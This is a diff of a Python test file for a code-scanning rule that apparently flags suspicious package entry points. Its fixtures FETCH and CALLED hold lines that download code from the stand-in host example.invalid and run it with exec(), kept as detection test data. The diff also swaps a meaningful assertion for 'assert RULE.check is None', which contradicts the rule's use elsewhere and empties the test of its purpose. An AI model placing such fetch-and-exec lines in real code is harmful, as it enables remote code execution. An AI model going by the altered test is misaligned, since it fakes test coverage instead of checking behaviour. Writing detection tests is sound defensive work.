@@ -7,7 +7,6 @@ import pytest
 from assay.rules.commands import COMMON, TRUSTED, command
 from assay.rules.entry_001_entry_point import RULE
 from tests.behaviour import findings
-from tests.listed_corpus import ListedCorpus, component
 
 FETCH = "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n"
 CALLED = "import urllib.request\ndef {}():\n    exec(urllib.request.urlopen('http://example.invalid/x').read())\n"
@@ -120,4 +119,4 @@ def test_the_tables_do_not_overlap() -> None:
 
 
 def test_a_component_alone_says_nothing() -> None:
-    assert list(RULE.check(component("pypi:demo@1.0"), ListedCorpus())) == []
+    assert RULE.check is None
